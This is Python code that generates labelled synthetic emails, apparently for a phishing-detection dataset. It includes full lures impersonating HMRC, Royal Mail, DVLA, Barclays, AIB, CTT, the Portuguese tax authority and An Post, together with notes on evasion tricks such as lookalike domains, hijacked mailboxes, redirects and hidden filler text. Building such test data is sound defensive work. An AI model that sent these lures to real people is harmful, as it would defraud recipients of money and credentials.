@sample("phishing", "b12-ctt-taxa-aduaneira-cuttly.eml",
        "CTT 'a sua encomenda aguarda o pagamento de 1,89 € de taxas aduaneiras' from the lookalike "
        "ctt-encomendas.info to a sapo.pt address; the payment link is a cutt.ly shortener")
def _(name):
    sent = when("Mon, 16 Dec 2024 11:45:02 +0000")
    rcpt = "ines.cardoso@sapo.pt"
    dom = "ctt-encomendas.info"
    sender = f"avisos@{dom}"
    hop = Hop(f"srv.{dom}", "185.208.158.31")
    a = Auth(sender, dom, "pass", "pass", dom, "s1", "none", "absent")
    obj = f"RR{digits(name, 'rr', 9)}PT"
    url = f"https://cutt.ly/{alnum(name, 'cutt', 7)}"
    route = plain_vps(name, f"srv.{dom}", sent, rcpt, "+0000", "UTC", dom, "s1")
    plain = f"""CTT – Correios de Portugal

Caro(a) cliente,

A sua encomenda {obj} encontra-se retida na alfândega a aguardar o pagamento de taxas
aduaneiras no valor de 1,89 €.

Efetue o pagamento para agendar a entrega: {url}

Se o pagamento não for efetuado em 5 dias, a encomenda será devolvida ao remetente.

CTT
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<div style="max-width:600px;margin:auto"><div style="background:#df0024;color:#fff;padding:14px 18px;font-size:22px"><b>CTT</b> <span style="font-size:12px">Correios de Portugal</span></div>
<div style="padding:20px;border:1px solid #eee;line-height:1.5">
<p>Caro(a) cliente,</p>
<p>A sua encomenda <b>{obj}</b> encontra-se retida na alfândega a aguardar o pagamento de taxas aduaneiras no valor de <b>1,89 €</b>.</p>
<p><a href="{url}" style="background:#df0024;color:#fff;padding:10px 22px;text-decoration:none">Pagar e agendar entrega</a></p>
<p>Se o pagamento não for efetuado em 5 dias, a encomenda será devolvida ao remetente.</p></div></div></body></html>
"""
    headers = std(addr("CTT Expresso", sender), rcpt, f"Encomenda {obj}: taxas aduaneiras pendentes", rfc(sent),
                  f"{hexid(name, 'mid', 24)}@{dom}")
    return assemble(name, "sapo", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-autoridade-tributaria-reembolso-irs-pdf-ipfs.eml",
        "Portal das Finanças 'reembolso de IRS disponível' from a throwaway outlook.pt mailbox to a sapo.pt taxpayer; "
        "the attached PDF's button points to an IPFS gateway page (dweb.link) that collects NIF, password and card")
def _(name):
    sent = when("Thu, 18 Jul 2024 10:12:44 +0000")
    rcpt = "jose.almeida55@sapo.pt"
    sender = "financas.reembolsos.at@outlook.pt"
    hop, route = outlook_consumer_route(name, "outlook.pt", sent)
    a = Auth(sender, "outlook.pt", "pass", "pass", "outlook.pt", "selector1", "pass", "none")
    cid = "bafybei" + alnum(name, "cid", 52, "abcdefghijklmnopqrstuvwxyz234567")
    link = f"https://{cid}.ipfs.dweb.link/reembolso.html?nif="
    pdf = pdf_doc(
        [latin1("Exmo.(a) Contribuinte,"), "",
         latin1("Após a liquidação da declaração Modelo 3 de IRS referente ao ano de 2023,"),
         latin1("foi apurado um reembolso a seu favor no valor de 418,62 EUR."), "",
         latin1("Para receber o reembolso, confirme os seus dados e o IBAN no Portal das Finanças"),
         latin1("através do botão abaixo, no prazo de 5 dias úteis."), "",
         latin1("Autoridade Tributária e Aduaneira")],
        "Reembolso IRS 2023", producer="Microsoft: Print To PDF", created="20240718100900+00'00'",
        link=(link, latin1("Confirmar reembolso")), header_lines=[latin1("Portal das Finanças"), "Reembolso de IRS"])
    plain = """Exmo.(a) Contribuinte,

Segue em anexo a notificação relativa ao reembolso de IRS 2023. Consulte o documento para receber o valor.

Autoridade Tributária e Aduaneira
"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr">
<div style="font-family:Aptos,Arial,sans-serif;font-size:12pt">Exmo.(a) Contribuinte,<br><br>Segue em anexo a notificação relativa ao reembolso de IRS 2023. Consulte o documento para receber o valor.<br><br>Autoridade Tributária e Aduaneira</div></body></html>
"""
    headers = [
        *std(addr("Portal das Financas", sender), rcpt, "Notificação de reembolso IRS 2023", rfc1(sent, "+0000"),
             f"PAXP251MB{hexid(name, 'mid', 28, True)}@PAXP251MB{digits(name, 'mb', 4)}.EURP251.PROD.OUTLOOK.COM"),
        "Accept-Language: pt-PT, en-US",
        "Content-Language: pt-PT",
        "X-MS-Has-Attach: yes",
    ]
    body = Multi("mixed", f"_004_PAXP251MB{hexid(name, 'bnd', 24, True)}_", [
        Multi("alternative", f"_000_PAXP251MB{hexid(name, 'bnd', 24, True)}_", [text(plain), text(html, "html")]),
        attachment("application/pdf", "Notificacao_Reembolso_IRS.pdf", pdf),
    ])
    return assemble(name, "sapo", rcpt, later(sent, 3), hop, a, route, headers, body)


# --------------------------------------------------------------------------------------------
# PHISHING — UK and Ireland
# --------------------------------------------------------------------------------------------

@sample("phishing", "b12-hmrc-tax-refund-compromised-workspace-wordpress.eml",
        "HMRC 'you are eligible for a tax refund of £348.20' from a dental practice's hijacked Google Workspace mailbox "
        "(SPF/DKIM/DMARC pass for harbourviewdental.co.uk) to a btinternet.com taxpayer; the claim form sits in "
        "wp-content/uploads of a compromised holiday-cottage site")
def _(name):
    sent = when("Tue, 09 Apr 2024 06:48:15 +0100")
    rcpt = "d.thompson47@btinternet.com"
    dom = "harbourviewdental.co.uk"
    sender = f"reception@{dom}"
    hop, route = workspace_route(name, dom, sent)
    a = Auth(sender, dom, "pass", "pass", dom, "google", "pass", "none")
    url = f"https://www.cotswoldcottagestays.co.uk/wp-content/uploads/2023/11/gov/hmrc/refund/?ref={digits(name, 'ref', 10)}"
    plain = f"""HM Revenue & Customs

Dear Taxpayer,

After the last annual calculation of your fiscal activity we have determined that you are eligible
to receive a tax refund of £348.20.

Please submit the tax refund request and allow us 3-5 business days to process it:
{url}

A refund can be delayed for a variety of reasons, for example submitting invalid records or applying
after the deadline.

HM Revenue & Customs
"""
    html = f"""<div dir="ltr"><div style="font-family:Arial,sans-serif;font-size:14px;color:#0b0c0c">
<div style="background:#0b0c0c;color:#fff;padding:12px 16px;font-size:20px"><b>GOV.UK</b></div>
<p style="border-left:6px solid #00703c;padding-left:8px"><b>HM Revenue &amp; Customs</b></p>
<p>Dear Taxpayer,</p>
<p>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a <b>tax refund of £348.20</b>.</p>
<p>Please submit the tax refund request and allow us 3-5 business days to process it.</p>
<p><a href="{url}" style="background:#00703c;color:#fff;padding:9px 18px;text-decoration:none">Claim your refund</a></p>
<p>A refund can be delayed for a variety of reasons, for example submitting invalid records or applying after the deadline.</p>
<p>HM Revenue &amp; Customs</p></div></div>
"""
    headers = [
        "MIME-Version: 1.0",
        f"From: {addr('HMRC Refunds', sender)}",
        f"Date: {rfc(sent)}",
        f"Message-ID: <CA+{alnum(name, 'gmid', 40)}@mail.gmail.com>",
        "Subject: HMRC: Tax refund notification - reference " + digits(name, "ref", 10),
        f"To: {sender}",
    ]
    return assemble(name, "bt", rcpt, later(sent, 2), hop, a, route, headers,
                    alt(name, plain, html, boundary=f"000000000000{hexid(name, 'gb', 16)}"))


@sample("phishing", "b12-royal-mail-redelivery-fee-square-site.eml",
        "Royal Mail 'we missed you, pay a £1.45 redelivery fee' from the throwaway royalmail-redelivery.info to a "
        "sky.com address; the payment page is a square.site store")
def _(name):
    sent = when("Mon, 02 Oct 2023 15:20:36 +0100")
    rcpt = "karen.walsh@sky.com"
    dom = "royalmail-redelivery.info"
    sender = f"no-reply@{dom}"
    hop = Hop(f"mail.{dom}", "94.156.66.201")
    a = Auth(sender, dom, "pass", "pass", dom, "default", "none", "absent")
    ref = f"RM{digits(name, 'rm', 9)}GB"
    url = f"https://royalmail-redelivery.square.site/?ref={ref}"
    route = plain_vps(name, f"mail.{dom}", sent, rcpt, "+0100", "BST", dom, "default")
    plain = f"""Royal Mail

Sorry we missed you.

We tried to deliver your item {ref} today but nobody was available to sign for it.
To rearrange delivery a redelivery fee of £1.45 must be paid.

Rearrange delivery: {url}

If the fee is not paid within 48 hours the item will be returned to the sender.

Royal Mail Group Ltd
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<div style="max-width:600px;margin:auto"><div style="background:#da202a;color:#ffdd00;padding:14px 18px;font-size:22px"><b>Royal Mail</b></div>
<div style="padding:20px;border:1px solid #eee;line-height:1.5">
<p><b>Sorry we missed you.</b></p>
<p>We tried to deliver your item <b>{ref}</b> today but nobody was available to sign for it. To rearrange delivery a redelivery fee of <b>£1.45</b> must be paid.</p>
<p><a href="{url}" style="background:#da202a;color:#fff;padding:10px 22px;text-decoration:none">Rearrange delivery</a></p>
<p>If the fee is not paid within 48 hours the item will be returned to the sender.</p>
<p style="font-size:11px;color:#777">Royal Mail Group Ltd</p></div></div></body></html>
"""
    headers = std(addr("Royal Mail", sender), rcpt, f"Royal Mail: Sorry we missed you - {ref}", rfc(sent),
                  f"{hexid(name, 'mid', 24)}@{dom}")
    return assemble(name, "sky", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-dvla-vehicle-tax-payment-failed-ses-onrender.eml",
        "DVLA 'your vehicle tax direct debit failed, your vehicle is no longer taxed' sent via Amazon SES (eu-west-2) "
        "for dvla-vehicletax-notice.co.uk (not gov.uk) to a btinternet.com driver; the link is an onrender.com form")
def _(name):
    sent = when("Wed, 19 Feb 2025 08:05:31 +0000")
    rcpt = "gary.hughes62@btinternet.com"
    dom = "dvla-vehicletax-notice.co.uk"
    hop, route, env = ses_route(name, dom, sent, region="eu-west-2")
    a = Auth(env, dom, "pass", "pass", dom, alnum(name, "sessel", 32, "abcdefghijklmnopqrstuvwxyz234567"), "none", "absent",
             dkim_extra=("amazonses.com", "uku4taia5b5tsbglxyj6zym32efj7xqv"))
    url = f"https://dvla-vehicle-tax-renewal.onrender.com/?v={alnum(name, 'v', 7).upper()}"
    plain = f"""DVLA

Vehicle tax direct debit payment failed

We were unable to collect your latest vehicle tax direct debit payment. Your vehicle is no longer
taxed and you could be fined up to £1,000.

To avoid enforcement action, update your payment details today:
{url}

Driver and Vehicle Licensing Agency
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:15px;color:#0b0c0c">
<div style="max-width:600px;margin:auto"><div style="background:#0b0c0c;color:#fff;padding:12px 16px;font-size:20px"><b>GOV.UK</b></div>
<div style="padding:18px;line-height:1.5">
<h2>Vehicle tax direct debit payment failed</h2>
<p>We were unable to collect your latest vehicle tax direct debit payment. Your vehicle is <b>no longer taxed</b> and you could be fined up to <b>£1,000</b>.</p>
<p><a href="{url}" style="background:#00703c;color:#fff;padding:9px 18px;text-decoration:none">Update payment details</a></p>
<p>Driver and Vehicle Licensing Agency</p></div></div></body></html>
"""
    headers = [
        f"Subject: DVLA: Vehicle tax direct debit payment failed",
        f"From: {addr('DVLA', 'vehicle.tax@' + dom)}",
        f"To: {rcpt}",
        "MIME-Version: 1.0",
        f"Message-ID: <{env.split('@')[0]}@eu-west-2.amazonses.com>",
        f"Date: {rfc(sent)}",
        f"Feedback-ID: ::1.eu-west-2.{b64(name, 'fbid', 43)}=:AmazonSES",
        f"X-SES-Outgoing: 2025.02.19-{hop.ip}",
    ]
    return assemble(name, "bt", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-barclays-new-device-google-url-hidden-text.eml",
        "Barclays 'a new device was added to your account' from the lookalike barclays-securealerts.co.uk to a "
        "sky.com customer; hidden English filler text pads the HTML and the 'It wasn't me' link is a google.com/url "
        "redirect to a lookalike login domain")
def _(name):
    sent = when("Sat, 15 Jun 2024 19:42:08 +0100")
    rcpt = "stephen.clarke@sky.com"
    dom = "barclays-securealerts.co.uk"
    sender = f"alerts@{dom}"
    hop = Hop(f"mail.{dom}", "185.117.90.54")
    a = Auth(sender, dom, "pass", "pass", dom, "mail", "pass", "none")
    target = f"https://online-barclays-verify.co.uk/olb/authlogin/?dev={hexid(name, 'dev', 10)}"
    url = google_url(target, name)
    filler = ("Weekend weather: sunny spells with a chance of showers in the north. Premier League fixtures announced "
              "for the new season. Recipe of the week: slow-roast lamb with rosemary and garlic. Gardening tip: water "
              "tomatoes in the morning during warm spells.")
    route = plain_vps(name, f"mail.{dom}", sent, rcpt, "+0100", "BST", dom, "mail")
    plain = f"""Barclays

A new device was added to your Barclays account

Device: iPhone 15 Pro (iOS 17.5)
Location: Leeds, United Kingdom
Time: 15/06/2024 19:31

If this was you, you don't need to do anything.
If you don't recognise this device, secure your account now: {url}

Barclays Bank UK PLC
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<div style="display:none;font-size:0;line-height:0;max-height:0;opacity:0">{filler}</div>
<div style="max-width:600px;margin:auto"><div style="background:#00aeef;color:#fff;padding:14px 18px;font-size:22px"><b>BARCLAYS</b></div>
<div style="padding:20px;border:1px solid #eee;line-height:1.5">
<p><b>A new device was added to your Barclays account</b></p>
<p>Device: iPhone 15 Pro (iOS 17.5)<br>Location: Leeds, United Kingdom<br>Time: 15/06/2024 19:31</p>
<p>If this was you, you don't need to do anything.</p>
<p><a href="{url}" style="background:#006ddf;color:#fff;padding:10px 22px;text-decoration:none">It wasn't me – secure my account</a></p>
<p style="font-size:11px;color:#777">Barclays Bank UK PLC</p></div></div>
<span style="color:#ffffff;font-size:1px">{filler}</span></body></html>
"""
    headers = std(addr("Barclays", sender), rcpt, "New device added to your Barclays account", rfc(sent),
                  f"{hexid(name, 'mid', 24)}@{dom}")
    return assemble(name, "sky", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-aib-secure-key-expires-yahoo-replit.eml",
        "AIB 'your Secure Key expires – reactivate to keep using Phone & Internet Banking' from a hijacked yahoo.co.uk "
        "account (authentication passes for yahoo) to an eircom.net customer; the kit is a replit.app page")
def _(name):
    sent = when("Thu, 07 Mar 2024 10:27:49 +0000")
    rcpt = "siobhan.ryan@eircom.net"
    sender = "mcgrath.tom62@yahoo.co.uk"
    hop, route = yahoo_route(name, "yahoo.co.uk", sent, "")
    route = [r.replace("REPLFROM", sender) for r in route]
    a = Auth(sender, "yahoo.co.uk", "pass", "pass", "yahoo.co.uk", "s2048", "pass", "reject")
    url = f"https://aib-securekey-renew.replit.app/ie/login?r={hexid(name, 'r', 8)}"
    plain = f"""AIB

Dear Customer,

Your AIB Secure Key registration expires on 09/03/2024. To continue using Phone & Internet Banking
and to approve card payments online, please reactivate your Secure Key now:

{url}

Failure to reactivate will result in your online access being suspended.

Allied Irish Banks, p.l.c.
"""
    html = f"""<html><head></head><body><div style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:13px;">
<div style="background:#7f2b7b;color:#fff;padding:12px 16px;font-size:22px"><b>AIB</b></div>
<p>Dear Customer,</p>
<p>Your AIB <b>Secure Key</b> registration expires on <b>09/03/2024</b>. To continue using Phone &amp; Internet Banking and to approve card payments online, please reactivate your Secure Key now.</p>
<p><a href="{url}" style="background:#7f2b7b;color:#fff;padding:10px 20px;text-decoration:none">Reactivate Secure Key</a></p>
<p>Failure to reactivate will result in your online access being suspended.</p>
<p>Allied Irish Banks, p.l.c.</p></div></body></html>
"""
    headers = [
        f"Date: {rfc(sent)}",
        f"From: {addr('AIB Customer Care', sender)}",
        f"To: {rcpt}",
        f"Message-ID: <{digits(name, 'ymid', 10)}.{digits(name, 'ymid2', 7)}.{epoch(sent)}{digits(name, 'ms', 3)}@mail.yahoo.com>",
        "Subject: Your AIB Secure Key expires - action required",
        "MIME-Version: 1.0",
        "X-Mailer: WebService/1.1.22111 YMailNorrin",
    ]
    body = Multi("alternative", f"----=_Part_{digits(name, 'yp', 7)}_{digits(name, 'yp2', 9)}.{epoch(sent)}{digits(name, 'ms', 3)}",
                 [text(plain, encoding="quoted-printable"), text(html, "html")])
    return assemble(name, "eircom", rcpt, later(sent, 2), hop, a, route, headers, body)


@sample("phishing", "b12-an-post-customs-charge-bitly.eml",
        "An Post 'customs charge of €2.99 due on your parcel' from the lookalike anpost-customs.info to an eircom.net "
        "address; the payment link is a bit.ly shortener")
def _(name):
    sent = when("Fri, 22 Nov 2024 13:14:20 +0000")
    rcpt = "declan.byrne@eircom.net"
    dom = "anpost-customs.info"
    sender = f"customs@{dom}"
    hop = Hop(f"mail.{dom}", "179.43.176.88")
    a = Auth(sender, dom, "pass", "pass", dom, "default", "none", "absent")
    item = f"CE{digits(name, 'ce', 9)}IE"
    url = f"https://bit.ly/{alnum(name, 'bitly', 7)}"
    route = plain_vps(name, f"mail.{dom}", sent, rcpt, "+0000", "UTC", dom, "default")
    plain = f"""An Post

Your parcel {item} is being held.

A customs charge of €2.99 is due before we can deliver your parcel. Please pay within 3 days or the
parcel will be returned to sender.

Pay customs charge: {url}

An Post Customs Clearance
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<div style="max-width:600px;margin:auto"><div style="background:#004d44;color:#fff;padding:14px 18px;font-size:22px"><b>An Post</b></div>
<div style="padding:20px;border:1px solid #eee;line-height:1.5">
<p><b>Your parcel {item} is being held.</b></p>
<p>A customs charge of <b>€2.99</b> is due before we can deliver your parcel. Please pay within 3 days or the parcel will be returned to sender.</p>
<p><a href="{url}" style="background:#00a94f;color:#fff;padding:10px 22px;text-decoration:none">Pay customs charge</a></p>
<p style="font-size:11px;color:#777">An Post Customs Clearance</p></div></div></body></html>
"""
    headers = std(addr("An Post", sender), rcpt, f"Customs charge due on parcel {item}", rfc(sent), f"{hexid(name, 'mid', 24)}@{dom}")
    return assemble(name, "eircom", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


# --------------------------------------------------------------------------------------------
# LEGITIMATE — clean (person to person, or transactional from a named person / department)
# --------------------------------------------------------------------------------------------

@sample("clean", "b12-credit-agricole-conseillere-rendez-vous.eml",
        "A named Crédit Agricole du Morbihan adviser confirms a branch appointment for a home-improvement loan to a "
        "laposte.net customer, from her own address on the bank's domain (Microsoft 365, SPF/DKIM/DMARC pass); no "
        "links, lists the papers to bring and reminds that the bank never asks for codes by e-mail")
def _(name):
    sent = when("Thu, 14 Mar 2024 11:26:40 +0000")
    rcpt = "m.legoff56@laposte.net"
    dom = "ca-morbihan.fr"
    sender = f"nathalie.gueguen@{dom}"
    hop, route = m365_route(name, dom, "camorbihan.onmicrosoft.com", sent)
    a = Auth(sender, dom, "pass", "pass", dom, "selector1", "pass", "reject")
    plain = """Bonjour Monsieur Le Goff,

Suite à notre échange téléphonique de ce matin, je vous confirme notre rendez-vous le jeudi 21 mars à
10h30 à l'agence de Vannes Saint-Patern, pour étudier votre projet de prêt travaux (rénovation de la
toiture et isolation des combles).

Pour que nous puissions avancer dès ce rendez-vous, merci d'apporter :
- vos trois derniers bulletins de salaire et ceux de Madame Le Goff ;
- votre dernier avis d'imposition ;
- les devis des artisans (couverture et isolation) ;
- le dernier relevé de votre prêt immobilier en cours, s'il n'est pas chez nous.

Si l'horaire ne vous convient plus, vous pouvez m'appeler directement à l'agence au 02 97 46 18 30
ou me répondre par retour de mail.

Pour rappel, pour consulter vos comptes, passez par l'application Ma Banque ou le site habituel : je ne
vous demanderai jamais vos identifiants, code personnel ou code reçu par SMS, ni par mail ni par téléphone.

Bien cordialement,

Nathalie Guéguen
Conseillère clientèle particuliers
Crédit Agricole du Morbihan – Agence de Vannes Saint-Patern
"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt;color:#000">
<p>Bonjour Monsieur Le Goff,</p>
<p>Suite à notre échange téléphonique de ce matin, je vous confirme notre rendez-vous le <b>jeudi 21 mars à 10h30</b> à l'agence de Vannes Saint-Patern, pour étudier votre projet de prêt travaux (rénovation de la toiture et isolation des combles).</p>
<p>Pour que nous puissions avancer dès ce rendez-vous, merci d'apporter :</p>
<ul><li>vos trois derniers bulletins de salaire et ceux de Madame Le Goff ;</li><li>votre dernier avis d'imposition ;</li>
<li>les devis des artisans (couverture et isolation) ;</li><li>le dernier relevé de votre prêt immobilier en cours, s'il n'est pas chez nous.</li></ul>
<p>Si l'horaire ne vous convient plus, vous pouvez m'appeler directement à l'agence au 02 97 46 18 30 ou me répondre par retour de mail.</p>
<p>Pour rappel, pour consulter vos comptes, passez par l'application Ma Banque ou le site habituel : je ne vous demanderai jamais vos identifiants, code personnel ou code reçu par SMS, ni par mail ni par téléphone.</p>
<p>Bien cordialement,</p>
<p><b>Nathalie Guéguen</b><br>Conseillère clientèle particuliers<br>Crédit Agricole du Morbihan – Agence de Vannes Saint-Patern</p>
</div></body></html>
"""
    subject = "Confirmation de notre rendez-vous du 21 mars – projet travaux"
    headers = [
        *std(addr("GUEGUEN Nathalie", sender), addr("Michel Le Goff", rcpt), subject, rfc1(sent, "+0000"),
             f"PR4P190MB{hexid(name, 'mid', 28, True)}@PR4P190MB{digits(name, 'mb', 4)}.EURP190.PROD.OUTLOOK.COM", mode="Q"),
        *m365_client_headers(name, dom, sent, subject),
    ]
    body = Multi("alternative", f"_000_PR4P190MB{hexid(name, 'bnd', 24, True)}_", [text(plain), text(html, "html")])
    return assemble(name, "laposte", rcpt, later(sent, 2), hop, a, route, headers, body)


@sample("clean", "b12-condominio-convocazione-assemblea-pdf-aruba.eml",
        "An Italian condominium administrator's office writes to an owner at libero.it with the convocation of the "
        "annual meeting and the 2023 accounts as a PDF, sent from its own domain through Aruba's outgoing SMTP "
        "(SPF pass, Aruba DKIM); no links, payments 'as usual' on the condominium account")
def _(name):
    sent = when("Tue, 09 Apr 2024 17:02:33 +0200")
    rcpt = "giuseppe.marino71@libero.it"
    dom = "ferraresiamministrazioni.it"
    sender = f"studio@{dom}"
    hop, route = aruba_route(name, sent, "93.44.187.120")
    a = Auth(sender, dom, "pass", "pass", "aruba.it", "a1", "none", "absent")
    pdf = pdf_doc(
        ["CONDOMINIO VIA MAZZINI 14 - 40137 BOLOGNA", "",
         "CONVOCAZIONE ASSEMBLEA ORDINARIA", "",
         "I signori condomini sono convocati in assemblea ordinaria presso la sala riunioni",
         "dello Studio, Via Saragozza 61, Bologna:",
         "- in prima convocazione il giorno 28/04/2024 alle ore 07:00;",
         "- in seconda convocazione il giorno 29/04/2024 alle ore 18:30,",
         "per discutere e deliberare sul seguente ordine del giorno:", "",
         "1. Approvazione rendiconto consuntivo 2023 e relativo riparto;",
         "2. Approvazione preventivo 2024 e relativo riparto;",
         "3. Manutenzione straordinaria del cancello carrabile: esame preventivi;",
         "4. Varie ed eventuali.", "",
         "In caso di impossibilita' a partecipare e' possibile delegare un altro condomino",
         "compilando il modulo in calce.", "",
         "L'Amministratore - Rag. Paolo Ferraresi"],
        "Convocazione assemblea 2024 - Via Mazzini 14", producer="Microsoft: Print To PDF",
        created="20240409165500+02'00'", header_lines=["Studio Ferraresi", "Amministrazioni condominiali"])
    plain = """Gentile condomino,

in allegato la convocazione dell'assemblea ordinaria del Condominio di Via Mazzini 14, fissata in
seconda convocazione per lunedì 29 aprile alle 18:30 presso il nostro studio, con il rendiconto 2023 e
il preventivo 2024.

Le rate del preventivo restano con le stesse scadenze e lo stesso conto corrente condominiale degli anni
scorsi. Chi non può partecipare può delegare un altro condomino con il modulo in calce alla convocazione.

Per qualsiasi chiarimento lo studio è aperto dal lunedì al venerdì, 9-13.

Cordiali saluti,
Rag. Paolo Ferraresi
Studio Ferraresi – Amministrazioni condominiali
Via Saragozza 61, Bologna
"""
    headers = [
        *std(addr("Studio Ferraresi", sender), rcpt, "Condominio Via Mazzini 14 – convocazione assemblea ordinaria 2024",
             rfc(sent), f"{uuid(name, 'mid')}@{dom}"),
        "User-Agent: Mozilla Thunderbird",
        "Content-Language: it",
        "X-Originating-IP: 93.44.187.120",
    ]
    body = Multi("mixed", f"------------{alnum(name, 'bnd', 24)}", [
        text(plain, encoding="8bit"),
        attachment("application/pdf", "Convocazione_assemblea_2024_ViaMazzini14.pdf", pdf),
    ])
    return assemble(name, "libero", rcpt, later(sent, 2), hop, a, route, headers, body)


@sample("clean", "b12-casero-revision-caldera-recibo.eml",
        "A Spanish landlord writes from his telefonica.net address to his tenant at hotmail.es: the boiler technician "
        "comes on Thursday for the annual service, and the March rent receipt is attached as a PDF; no change of "
        "bank details, no links")
def _(name):
    sent = when("Mon, 04 Mar 2024 19:48:12 +0100")
    rcpt = "lucia.fernandez.m@hotmail.es"
    sender = "aruizbeltran@telefonica.net"
    hop = Hop("smtp-out.telefonica.net", "213.4.149.12", "smtp.telefonica.net")
    a = Auth(sender, "telefonica.net", "pass", "none", "", "", "pass", "none")
    route = [
        f"Received: from [192.168.1.34] (unknown [83.40.112.205])\n\t(Authenticated sender: {sender})\n"
        f"\tby smtp.telefonica.net (Postfix) with ESMTPSA id {hexid(name, 'tf', 11, True)}\n\tfor <{rcpt}>; {rfc1(sent, '+0100', 'CET')}",
    ]
    pdf = pdf_doc(
        ["RECIBO DE ALQUILER", "",
         latin1("Arrendador: Antonio Ruiz Beltrán"),
         latin1("Arrendataria: Lucía Fernández Martín"),
         latin1("Vivienda: C/ Sierra de Guadarrama 12, 3º B, 28031 Madrid"), "",
         latin1("Periodo: marzo 2024"),
         latin1("Importe: 950,00 EUR (novecientos cincuenta euros)"),
         latin1("Forma de pago: transferencia recibida el 01/03/2024"), "",
         latin1("Madrid, 4 de marzo de 2024")],
        "Recibo alquiler marzo 2024", producer="LibreOffice 7.6", creator="Writer", created="20240304194000+01'00'")
    plain = """Hola Lucía:

Te escribo para avisarte de que el jueves 7 por la mañana, entre las 9 y las 11, pasará el técnico de la
caldera para la revisión anual. Es de la misma empresa que el año pasado (Gas Servicios Moratalaz). Si
no vas a estar, dímelo y le dejo yo la llave o cambiamos el día.

Te adjunto también el recibo de marzo. La transferencia llegó bien, como siempre.

Un saludo,
Antonio
"""
    headers = [
        f"Message-ID: <{uuid(name, 'mid')}@telefonica.net>",
        f"Date: {rfc(sent)}",
        "MIME-Version: 1.0",
        "User-Agent: Mozilla Thunderbird",
        "Content-Language: es-ES",
        f"To: {addr('Lucía Fernández', rcpt)}",
        f"From: {addr('Antonio Ruiz Beltrán', sender)}",
        f"Subject: {enc('Revisión de la caldera el jueves y recibo de marzo', 'Q')}",
    ]
    body = Multi("mixed", f"------------{alnum(name, 'bnd', 24)}", [
        text(plain, encoding="8bit"),
        attachment("application/pdf", "Recibo_alquiler_marzo_2024.pdf", pdf),
    ])
    return assemble(name, "hotmail", rcpt, later(sent, 3), hop, a, route, headers, body, geo=("ES", "es"))


@sample("clean", "b12-familie-fotos-verjaardag-ziggo-iphone.eml",
        "A Dutch daughter sends her parents (kpnmail.nl) two photos of her son's birthday from the iPhone Mail app "
        "through Ziggo's own SMTP, with a link to the rest of the family album on Google Photos (photos.app.goo.gl)")
def _(name):
    sent = when("Sun, 21 Apr 2024 20:13:05 +0200")
    rcpt = "henk.jansen@kpnmail.nl"
    sender = "mariekedevries@ziggo.nl"
    hop = Hop(f"smtpq{1 + int(hexid(name, 'q', 1), 16) % 3}.tb.ukmail.iss.as9143.net", "212.54.57.96")
    a = Auth(sender, "ziggo.nl", "pass", "pass", "ziggo.nl", "20190130", "pass", "none")
    client = f"84.106.{int(hexid(name, 'ip', 2), 16) % 250}.{int(hexid(name, 'ip2', 2), 16) % 250}"
    route = [
        f"Received: from [212.54.57.80] (helo=smtp9.tb.ukmail.iss.as9143.net)\n\tby {hop.ptr} with esmtp (Exim 4.90_1)\n"
        f"\t(envelope-from <{sender}>)\n\tid 1ryc{alnum(name, 'ex', 3)}-000{alnum(name, 'ex2', 3)}-{alnum(name, 'ex3', 2)}\n\tfor {rcpt}; {rfc(sent)}",
        f"Received: from smtpclient.apple ([{client}])\n"
        f"\tby smtp9.tb.ukmail.iss.as9143.net with ESMTPA\n\tid yc{alnum(name, 'zid', 20)}; {rfc(sent)}",
        f"X-SourceIP: {client}",
        "X-Ziggo-spambar: /",
        "X-Ziggo-spamscore: 0.0",
        "X-Ziggo-spamreport: CMAE Analysis: v=2.4 cv=" + alnum(name, 'cv', 8) + " c=1 sm=1 tr=0",
        dkim(name, "ziggo.nl", "20190130", sent, "From:Content-Type:Mime-Version:Subject:Message-Id:Date:To", c="simple/simple"),
    ]
    album = f"https://photos.app.goo.gl/{alnum(name, 'album', 17)}"
    text1 = f"""Hoi pap en mam,

Hierbij alvast twee foto’s van Sem z’n verjaardag gisteren. Hij was zo blij met de step! De rest staat in
het gedeelde album, daar hebben Joost en zijn moeder er ook een paar bij gezet:

{album}

Volgende week zondag komen we langs, neem ik de taart mee.

Liefs,
Marieke

"""
    text2 = "\nVerstuurd vanaf mijn iPhone\n"
    b = f"Apple-Mail-{uuid(name, 'apple').upper()}"
    body = Multi("mixed", b, [
        Leaf("text/plain", text1.encode("utf-8"), "quoted-printable", '; charset="utf-8"'),
        Leaf("image/jpeg", files.photo_jpeg(11), "base64", '; name="IMG_4821.jpeg"', 'inline; filename="IMG_4821.jpeg"',
             [f"Content-Id: <{uuid(name, 'img1').upper()}>"]),
        Leaf("image/jpeg", files.photo_jpeg(23), "base64", '; name="IMG_4830.jpeg"', 'inline; filename="IMG_4830.jpeg"',
             [f"Content-Id: <{uuid(name, 'img2').upper()}>"]),
        Leaf("text/plain", text2.encode("utf-8"), "7bit", '; charset="us-ascii"'),
    ])
    headers = [
        f"From: {addr('Marieke de Vries', sender)}",
        "Mime-Version: 1.0 (1.0)",
        f"Date: {rfc(sent)}",
        f"Subject: {enc('Foto’s verjaardag Sem', 'Q')}",
        f"Message-Id: <{uuid(name, 'msg').upper()}@ziggo.nl>",
        f"To: {addr('Henk Jansen', rcpt)}",
        "X-Mailer: iPhone Mail (21E236)",
    ]
    return assemble(name, "kpn", rcpt, later(sent, 2), hop, a, route, headers, body)


